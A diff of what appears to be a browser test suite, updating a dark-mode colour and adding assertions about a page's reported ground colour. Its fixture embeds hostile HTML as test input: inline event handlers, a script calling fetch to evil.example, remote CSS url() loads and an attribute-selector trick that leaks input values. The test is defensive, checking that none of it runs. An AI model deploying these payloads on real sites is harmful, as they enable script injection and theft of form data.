@@ -181,7 +181,7 @@ const HOSTILE = `<!doctype html><html lang="en" onload="top.pwned=1"><head>
 body { background: url(https://evil.example/bg.png); font-family: X }
 input[value^="a"] { background-image: image-set("https://evil.example/a.png" 1x) }
 h1::before { content: url(https://evil.example/c.png) } h1 { u\\72l: 1; cursor: u\\72l(https://evil.example/k.cur), auto }
-@media (prefers-color-scheme: dark) { body { color: rgb(250, 250, 250); background-color: rgb(1, 2, 3) } }
+@media (prefers-color-scheme: dark) { body { color: rgb(250, 250, 250); background-color: rgb(0, 0, 0) } }
 </style></head><body onclick="top.pwned=2"><script>top.pwned = 3; fetch('https://evil.example/f')</script>
 <h1 onpointermove="top.pwned=4" style="background: url(https://evil.example/s.png); color: rgb(9, 8, 7)">Words that stay</h1>
 <img src="https://evil.example/1.png" srcset="https://evil.example/2.png 2x" onerror="top.pwned=5" alt="">
@@ -233,6 +233,9 @@ test('a page that would act and ask does neither: its words are shown, and nothi
     .poll(() => inside.locator('body').evaluate((one) => getComputedStyle(one).color))
     .toBe('rgb(250, 250, 250)');
   await expect(region).toContainText('dark');
+  // Black is a ground too, and what the page shows there is told of it.
+  await region.locator('summary', { hasText: /^ground/ }).click();
+  await expect(region.getByRole('list', { name: 'ground' })).toContainText('#000000');
   expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
   expect(page.url()).toContain('/review');
   expect(
